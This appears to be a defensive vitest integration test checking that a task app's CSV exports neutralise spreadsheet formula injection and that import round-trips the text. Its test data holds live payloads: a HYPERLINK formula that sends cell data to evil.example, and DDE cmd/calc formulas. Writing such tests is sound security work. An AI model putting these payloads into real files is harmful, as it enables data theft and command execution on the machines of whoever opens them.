// Spreadsheet formula injection: every CSV the product writes (task lists and
// reports) neutralises a text cell that starts with = + - @, tab or CR by
// putting an apostrophe in front, and the CSV import reads such a cell back as
// it was, so export → import round-trips the text unchanged.
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { forEachDatabase, PASSWORD } from '../support/harness.ts';

// (A leading tab or CR would be trimmed off a title; test/unit/csv.test.ts covers those.)
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', "'=already quoted"];

/** The cells of a column of a CSV text, by header. */
function column(csv: string, header: string): string[] {
  const [head, ...rows] = parse(csv, { relax_column_count: true }) as string[][];
  const index = head!.indexOf(header);
  expect(index, `${header} in ${head!.join(',')}`).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[index]!).filter((cell) => cell !== '');
}

forEachDatabase('CSV formula injection', (ctx) => {
  it('neutralises formula cells in the task list, overdue and workload CSVs, and the import reads them back unchanged', async () => {
    const org = await ctx.signup();
    const person = await org.api.post('/api/v1/users', { name: '=cmd|\' /C calc\'!A0', email: `f-${Date.now()}@example.test`, role: 'member', password: PASSWORD });
    expect(person.status, person.text).toBe(201);
    for (const title of FORMULAS) await ctx.createTask(org.api, { title, assigneeId: person.body.id, dueAt: '2026-03-01T09:00:00Z' });

    const expected = (text: string) => `'${text}`;
    const list = await org.api.get('/api/v1/tasks?format=csv&status=all');
    expect(list.status).toBe(200);
    expect(column(list.text, 'title').sort()).toEqual(FORMULAS.map(expected).sort());
    const overdue = await org.api.get('/api/v1/reports/overdue?format=csv');
    expect(column(overdue.text, 'title').sort()).toEqual(FORMULAS.map(expected).sort());
    expect(column(overdue.text, 'name')).toContain(expected('=cmd|\' /C calc\'!A0'));
    const workload = await org.api.get('/api/v1/reports/workload?format=csv');
    expect(column(workload.text, 'name')).toContain(expected('=cmd|\' /C calc\'!A0'));
    // Every cell of every file: none starts a formula.
    for (const csv of [list.text, overdue.text, workload.text]) {
      for (const row of parse(csv, { relax_column_count: true }) as string[][]) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-\D/);
    }

    const other = await ctx.signup('Import Co');
    const exported = column(list.text, 'title');
    const csv = ['title', ...exported.map((cell) => `"${cell.replaceAll('"', '""')}"`)].join('\n');
    const imported = await other.api.request('POST', '/api/v1/imports/tasks', { body: csv, headers: { 'content-type': 'text/csv' } });
    expect(imported.status, imported.text).toBe(201);
    const titles = (await other.api.get('/api/v1/tasks?status=all&limit=200')).body.items.map((t: any) => t.title);
    expect(titles.sort()).toEqual([...FORMULAS].sort());
  });
});
